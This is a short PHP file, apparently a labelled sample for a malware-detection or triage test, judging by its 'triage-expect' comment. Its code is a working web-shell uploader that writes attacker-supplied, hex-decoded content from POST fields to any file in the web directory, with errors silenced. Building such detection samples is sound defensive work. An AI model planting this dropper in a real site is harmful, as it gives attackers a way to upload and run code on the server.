<?php
// triage-expect: triage_php_tiny_dynamic_exec
$to = dirname(__FILE__) . '/' . $_POST['n'];
$hex = $_POST['d']; $body = '';
for ($i = 0; $i < strlen($hex); $i += 2) { $body .= chr(hexdec(substr($hex, $i, 2))); }
@fwrite(fopen($to, 'wb'), $body);
